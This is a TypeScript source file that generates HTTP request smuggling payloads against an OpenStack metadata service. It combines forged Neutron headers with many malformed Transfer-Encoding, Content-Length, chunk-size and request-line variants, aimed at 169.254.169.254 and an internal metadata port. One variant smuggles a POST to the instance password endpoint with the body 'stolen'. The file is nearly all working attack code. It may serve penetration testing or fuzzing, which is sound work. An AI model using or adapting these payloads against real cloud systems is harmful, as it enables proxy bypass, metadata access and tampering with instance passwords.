import { type Attack, linesOf, metaDataPath, request } from './attack.ts'
import type { Header } from './forged-headers.ts'

/** Requests that a proxy and a server may end at different bytes, so that what is inside is a request of its own. */
export function smuggle(headers: readonly Header[]): readonly Attack[] {
  const way = headers.filter(([name]) => name !== 'X-Neutron-Router-ID')
  const otherWay = headers.filter(([name]) => name !== 'X-Neutron-Network-ID')
  return [way, otherWay].flatMap(set => [
    ...hide(request(linesOf(set)), 'a request'),
    ...hide(postPassword(set), 'a password'),
  ])
}

/** What a victim would notice. */
function postPassword(headers: readonly Header[]): string {
  const lines = [...linesOf(headers), 'Content-Length: 6']
  return `${request(lines, 'POST /openstack/latest/password HTTP/1.1')}stolen`
}

const post = `POST ${metaDataPath} HTTP/1.1`

function hide(inner: string, what: string): readonly Attack[] {
  const attack = (title: string, bytes: string) => ({ name: `${what} in ${title}`, bytes })
  const chunked = `0\r\n\r\n${inner}`
  const inChunk = `${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`
  return [
    ...transferEncodings.flatMap(encoding => [
      attack(
        `a body with its length and ${JSON.stringify(encoding)}`,
        request([`Content-Length: ${chunked.length}`, encoding], post) + chunked,
      ),
      attack(
        `a body with ${JSON.stringify(encoding)} and a short length`,
        request([encoding, 'Content-Length: 4'], post) + inChunk,
      ),
      attack(`a body with ${JSON.stringify(encoding)} alone`, request([encoding], post) + chunked),
    ]),
    ...lengthsOf(inner.length).map(length =>
      attack(`a body with ${JSON.stringify(length)}`, request([length], post) + inner),
    ),
    ...chunksOf(inner).map(body =>
      attack(
        `chunks ${JSON.stringify(body.slice(0, 24))}`,
        request(['Transfer-Encoding: chunked'], post) + body,
      ),
    ),
    ...headsOf(inner.length).map(head =>
      attack(JSON.stringify(head), `${head}\r\nHost: 169.254.169.254\r\n\r\n${inner}`),
    ),
    ...optionsOf(inner.length).map(lines =>
      attack(JSON.stringify(lines), request(lines, post) + inner),
    ),
    attack('a pipeline', request([]) + inner + request([])),
    attack('a header', request([`X-Other: ${inner.replaceAll('\r\n', '\r\n ')}`])),
    attack('a header without folds', request([`X-Other: ${inner}`])),
  ]
}

const transferEncodings = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding: CHUNKED',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: chunked\0',
  'Transfer-Encoding: \0chunked',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: x chunked',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding: x\r\n chunked',
  'Transfer-Encoding : chunked',
  ' Transfer-Encoding: chunked',
  'X-Other: x\r\n Transfer-Encoding: chunked',
  'X-Other: x\nTransfer-Encoding: chunked',
  'X-Other: x\rTransfer-Encoding: chunked',
  'X-Other: x\x85Transfer-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'transfer-encoding: chunked\r\nTransfer_Encoding: chunked',
  'Transfer-Encoding\0: chunked',
]

function lengthsOf(size: number): readonly string[] {
  return [
    `Content-Length: ${size}\r\nContent-Length: ${size}`,
    `Content-Length: ${size}\r\nContent-Length: 0`,
    `Content-Length: 0\r\nContent-Length: ${size}`,
    `Content-Length: 0, ${size}`,
    `Content-Length: ${size}, ${size}`,
    `Content-Length: +${size}`,
    `Content-Length: -${size}`,
    `Content-Length: 00${size}`,
    `Content-Length: 0x${size.toString(16)}`,
    `Content-Length: ${size} 0`,
    `Content-Length: ${size}.0`,
    `Content-Length: 1${'0'.repeat(24)}`,
    `Content-Length: ${size}\0`,
    `Content-Length: \x0b${size}`,
    `Content-Length:\r\n ${size}`,
    `Content-Length : ${size}`,
    `Content_Length: ${size}`,
    `Content-Length: ${size}\r\nContent_Length: 0`,
    `Content-Length: 0\r\nContent_Length: ${size}`,
    'Content-Length: 0',
    'Content-Length:',
    'X-Other: no length',
  ]
}

function chunksOf(inner: string): readonly string[] {
  const size = inner.length.toString(16)
  return [
    `0\r\nX-Other: x\r\n\r\n${inner}`,
    `0;x=\r\n\r\n${inner}`,
    `0;\n\r\n\r\n${inner}`,
    `0;x="\r\n\r\n${inner}`,
    `0\n\n${inner}`,
    `0\r\r\n${inner}`,
    `00000000000000000\r\n\r\n${inner}`,
    `0x${size}\r\n${inner}\r\n0\r\n\r\n`,
    `+${size}\r\n${inner}\r\n0\r\n\r\n`,
    `-${size}\r\n${inner}\r\n0\r\n\r\n`,
    `1${'0'.repeat(16)}\r\n${inner}`,
    ` ${size}\r\n${inner}\r\n0\r\n\r\n`,
    `${size} \r\n${inner}\r\n0\r\n\r\n`,
    `1\r\nab\r\n0\r\n\r\n${inner}`,
    `${inner.split('\r\n').slice(2).join('\r\n')}`,
    // Trailers with what a proxy has already set.
    `0\r\n${inner.split('\r\n').slice(2).join('\r\n')}`,
  ]
}

function headsOf(size: number): readonly string[] {
  const sized = `\r\nContent-Length: ${size}`
  const at = (target: string) => `POST ${target} HTTP/1.1${sized}`
  return [
    `POST ${metaDataPath} HTTP/1.0${sized}`,
    `POST ${metaDataPath} HTTP/1.0\r\nTransfer-Encoding: chunked${sized}`,
    `POST ${metaDataPath} HTTP/1.0\r\nConnection: keep-alive`,
    `POST ${metaDataPath} HTTP/2.0${sized}`,
    `POST ${metaDataPath}`,
    `POST ${metaDataPath} HTTP/1.1 HTTP/1.1${sized}`,
    `GET ${metaDataPath} HTTP/1.1${sized}`,
    `GET ${metaDataPath} HTTP/1.1`,
    `HEAD ${metaDataPath} HTTP/1.1${sized}`,
    `HEAD ${metaDataPath} HTTP/1.1`,
    `CONNECT 172.29.236.11:8775 HTTP/1.1`,
    `CONNECT 169.254.169.254:80 HTTP/1.1`,
    `OPTIONS * HTTP/1.1`,
    `TRACE ${metaDataPath} HTTP/1.1`,
    'PRI * HTTP/2.0',
    at(`http://169.254.169.254${metaDataPath}`),
    at(`http://172.29.236.11:8775${metaDataPath}`),
    at(`http://x@169.254.169.254${metaDataPath}`),
    at(`https://169.254.169.254${metaDataPath}`),
    at(`//172.29.236.11:8775${metaDataPath}`),
    at('172.29.236.11:8775'),
    at(`${metaDataPath}?\0`),
    at(`${metaDataPath}#`),
  ]
}

function optionsOf(size: number): readonly (readonly string[])[] {
  const length = `Content-Length: ${size}`
  return [
    ['Connection: X-Neutron-Network-ID, X-Neutron-Router-ID, X-Forwarded-For', length],
    ['Connection: keep-alive, Content-Length', length],
    ['Connection: Transfer-Encoding', length],
    ['Connection: keep-alive', 'Keep-Alive: timeout=60', length],
    ['Expect: 100-continue', length],
    ['Expect: x', length],
    [
      'Connection: Upgrade',
      'Upgrade: websocket',
      'Sec-WebSocket-Key: eHh4',
      'Sec-WebSocket-Version: 13',
    ],
    [
      'Connection: Upgrade, HTTP2-Settings',
      'Upgrade: h2c',
      'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA',
    ],
    ['TE: trailers', 'Trailer: X-Forwarded-For', 'Transfer-Encoding: chunked'],
    ['Proxy-Connection: keep-alive', length],
    ['X-HTTP-Method-Override: GET', length],
  ]
}
